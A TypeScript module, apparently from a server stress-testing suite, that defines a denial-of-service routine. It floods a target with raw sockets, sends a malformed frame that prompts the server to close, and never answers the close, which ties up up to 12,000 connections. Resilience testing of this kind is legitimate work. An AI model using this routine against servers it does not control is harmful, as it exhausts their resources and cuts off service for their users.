import { count, keepHighest, type Attack } from '../attack.ts'
import { frame, openRawSocket } from '../raw-socket.ts'

/** Sockets that make the server say close, and never answer it. */
export const unansweredCloses: Attack = (target, achieved) => {
  let open = 0
  const next = async () => {
    if (open > 12_000) return
    open += 1
    const raw = await openRawSocket({ ...target }, { gone: () => (open -= 1) })
    count(achieved, 'sockets')
    raw.write(frame(1, 'garbage'))
    keepHighest(achieved, 'open at once', open)
  }
  setInterval(() => Array.from({ length: 6 }, next), 20)
}
